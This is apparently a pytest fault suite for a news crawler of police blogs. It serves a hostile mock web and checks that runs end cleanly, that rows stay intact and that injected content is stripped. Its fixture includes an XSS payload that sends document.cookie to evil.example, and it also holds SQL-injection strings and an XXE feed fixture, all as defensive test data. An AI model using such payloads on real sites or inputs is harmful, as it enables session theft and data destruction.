"""The fault suite: a hostile loopback web. Every run ends, other sites are crawled, stored
rows stay intact, and each cause is visible in `police-news status`."""

from __future__ import annotations

import json
import sqlite3
from dataclasses import replace
from datetime import datetime, timedelta, timezone

import pytest

from crawler.demo.blogger import BloggerBlogSite
from crawler.demo.content import make_blog
from crawler.demo.faults import (
    FaultySite,
    Rule,
    abort,
    hang,
    http_error,
    huge,
    not_a_feed,
    redirect_loop,
    replace_body,
    robots_disallow_all,
    wrong_charset,
)
from crawler.demo.mockweb import MockWeb
from tests.helpers import FIXTURES, cli

pytestmark = pytest.mark.slow

WIB = timezone(timedelta(hours=7))
SETTINGS = ["-s", "DOWNLOAD_DELAY=0", "-s", "AUTOTHROTTLE_START_DELAY=0", "-s",
            "DOWNLOAD_TIMEOUT=2", "-s", "RETRY_TIMES=2", "-s", "DOWNLOAD_DELAY_JITTER=0"]
FEED = r"^/feeds/"
PAGE = r"\.html$"
XSS_TITLE = "Robert'); DROP TABLE articles;-- Polres Gelar Razia"

# name: (summary_only, rules, expected status, expected cause fragment or None)
CASES = {
    "healthy": (False, [], "ok", None),
    "once-500": (False, [Rule(FEED, http_error(500), times=1)], "ok", None),
    "once-503-retry-after": (False, [Rule(FEED, http_error(503, retry_after=1), times=1)],
                             "ok", None),
    "once-429-retry-after": (False, [Rule(FEED, http_error(429, retry_after=1), times=1)],
                             "ok", None),
    "once-reset": (False, [Rule(FEED, abort("reset"), times=1)], "ok", None),
    "once-truncated": (False, [Rule(FEED, abort("truncate"), times=1)], "ok", None),
    "always-500": (False, [Rule(FEED, http_error(500))], "failed", "HTTP 500"),
    "always-timeout": (False, [Rule(FEED, hang(20))], "failed", "timed out"),
    "always-reset": (False, [Rule(FEED, abort("reset"))], "failed", "connection"),
    "huge-pages": (True, [Rule(PAGE, huge(50))], "failed", "size limit"),
    "redirect-loop": (False, [Rule(FEED, redirect_loop())], "failed", "redirect"),
    "robots-forbid": (False, [Rule(r"^/robots\.txt", robots_disallow_all())], "failed",
                      "robots.txt"),
    "malformed-json": (False, [Rule(FEED, replace_body(b'{"feed": {"entry": [{"id": ',
                                                       "application/json"))],
                       "failed", "not valid JSON"),
    "hijacked": (False, [Rule(FEED, not_a_feed())], "failed", "did not answer with a Blogger"),
    "wrong-charset": (True, [Rule(PAGE, wrong_charset())], "ok", None),
    "xml-bomb": (False, [Rule(FEED, replace_body((FIXTURES / "blogger/feed_xxe.atom.xml")
                                                 .read_bytes(), "application/atom+xml"))],
                 "ok", None),
    "hostile-html": (False, [], "ok", None),
}


def hostile(posts):
    """Script, iframe, event handlers, javascript: links and an SQL-looking title."""
    first = replace(posts[0], title=XSS_TITLE, body_html=posts[0].body_html + (
        '<script>document.location="http://evil.example/"+document.cookie</script>'
        '<iframe src="http://evil.example/"></iframe>'
        '<p onclick="steal()">Klik <a href="javascript:alert(1)">di sini</a> untuk info.</p>'
        '<img src="x.jpg" onerror="alert(2)">'))
    return [first, *posts[1:]]


@pytest.fixture(scope="module")
def crawled(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("faults")
    db = tmp / "news.db"
    web = MockWeb()
    blogs = {}
    for n, (name, (summary_only, rules, _, _)) in enumerate(CASES.items()):
        base = web.bind(name)
        blog = make_blog("Polres Sanggau", "Polda Kalbar", "Kalimantan Barat", 20,
                         seed=300 + n, newest=datetime(2026, 10, 5, 9, tzinfo=WIB))
        site = BloggerBlogSite(blog, base, page_cap=10, summary_only=summary_only)
        if name == "hostile-html":
            site.set_posts(hostile(site.posts))
        blogs[name] = site
        # 50 ms an answer on one site, so its two requests at a time surely overlap.
        latency = 0.05 if name == "wrong-charset" else 0.0
        web.add(name, FaultySite(site, rules, latency=latency) if rules else site)
    web.start()
    try:
        for name, site in blogs.items():
            added = cli("sites", "add", site.base_url, "--id", f"f-{name}", "--platform",
                        "blogger", "--province", "Kalimantan Barat", db=db)
            assert added.returncode == 0, added.stderr
        first = cli("crawl", "--site", "f-healthy", "--no-progress", *SETTINGS, db=db)
        assert first.returncode == 0, first.stderr
        args = [a for name in CASES for a in ("--site", f"f-{name}")]
        result = cli("crawl", *args, "--no-progress", *SETTINGS, db=db, timeout=300)
        status = json.loads(cli("status", "--json", db=db).stdout)
        yield {"db": db, "result": result, "status": {s["site"]: s for s in status},
               "web": web, "blogs": blogs}
    finally:
        web.stop()


def test_the_run_ends_with_exit_3_and_no_traceback(crawled) -> None:
    result = crawled["result"]
    assert result.returncode == 3, result.stdout + result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    failed = sum(1 for _, (_, _, status, _) in CASES.items() if status == "failed")
    assert f"{len(CASES)} site(s): {len(CASES) - failed} ok, {failed} failed" in result.stdout


@pytest.mark.parametrize("name", list(CASES))
def test_each_site_has_the_expected_outcome_and_cause(crawled, name) -> None:
    _, _, expected, cause = CASES[name]
    entry = crawled["status"][f"f-{name}"]
    assert entry["last_status"] == expected, entry
    if cause:
        assert cause.lower() in (entry["last_error"] or "").lower(), entry
    conn = sqlite3.connect(crawled["db"])
    stored = conn.execute("SELECT count(*) FROM articles WHERE site_id = ?",
                          (f"f-{name}",)).fetchone()[0]
    if expected == "ok" and name != "xml-bomb":
        assert stored == 20
    if name == "xml-bomb":
        assert stored == 1


def test_transient_errors_were_retried_and_retry_after_waited(crawled) -> None:
    web = crawled["web"]
    for name in ("once-500", "once-503-retry-after", "once-429-retry-after", "once-reset",
                 "once-truncated"):
        first_page = [r for r in web.requests_for(name) if r.path.startswith("/feeds/")
                      and "start-index" not in r.path]
        assert len(first_page) == 2, (name, first_page)
    for name in ("once-503-retry-after", "once-429-retry-after"):
        first, second = [r for r in web.requests_for(name) if r.path.startswith("/feeds/")
                         and "start-index" not in r.path]
        assert second.at - first.at >= 0.9, name


def test_stored_rows_are_intact_and_hostile_content_is_neutralised(crawled) -> None:
    conn = sqlite3.connect(crawled["db"])
    assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    assert conn.execute("SELECT count(*) FROM articles WHERE site_id = 'f-healthy'"
                        ).fetchone()[0] == 20
    html, text = conn.execute("SELECT body_html, body_text FROM articles WHERE title = ?",
                              (XSS_TITLE,)).fetchone()
    for bad in ("<script", "<iframe", "onclick", "onerror", "javascript:", "evil.example"):
        assert bad not in html.lower()
        assert bad not in text.lower()
    assert "Klik di sini untuk info." in text
    bodies = " ".join(r[0] for r in conn.execute(
        "SELECT body_text || title FROM articles WHERE site_id = 'f-xml-bomb'"))
    assert "root:" not in bodies and "lollol" not in bodies


def test_wrong_charset_is_repaired(crawled) -> None:
    conn = sqlite3.connect(crawled["db"])
    texts = [r[0] for r in conn.execute(
        "SELECT body_text FROM articles WHERE site_id = 'f-wrong-charset'")]
    assert len(texts) == 20
    assert not any("\ufffd" in t for t in texts)
    expected = {p.body_text for p in crawled["blogs"]["wrong-charset"].posts}
    assert set(texts) == expected


def test_robots_refusal_is_recorded(crawled) -> None:
    conn = sqlite3.connect(crawled["db"])
    robots = json.loads(conn.execute(
        "SELECT robots FROM crawl_runs WHERE site_id = 'f-robots-forbid' ORDER BY id DESC"
    ).fetchone()[0])
    assert robots.get("forbidden", 0) >= 1
    web = crawled["web"]
    assert [r.path for r in web.requests_for("robots-forbid")] == ["/robots.txt"]


def test_sql_looking_cli_values_are_just_unknown_sites(crawled) -> None:
    result = cli("crawl", "--site", "x'; DROP TABLE articles;--", db=crawled["db"])
    assert result.returncode == 2
    assert "unknown site" in result.stderr
    conn = sqlite3.connect(crawled["db"])
    assert conn.execute("SELECT count(*) FROM articles").fetchone()[0] > 0


def test_no_site_ever_had_more_than_two_requests_in_flight(crawled) -> None:
    # Politeness holds even with DOWNLOAD_DELAY=0 (crawler/politeness.py). Sites whose answers
    # the crawler abandons (timeouts, cancelled 50 MB pages) are left out: their server threads
    # still count the abandoned request while the retry is served.
    web = crawled["web"]
    counted = {k: v for k, v in web.max_in_flight.items()
               if k not in ("always-timeout", "huge-pages")}
    assert counted and max(counted.values()) <= 2, web.max_in_flight
    assert web.max_in_flight["wrong-charset"] == 2  # 20 post pages, two at a time
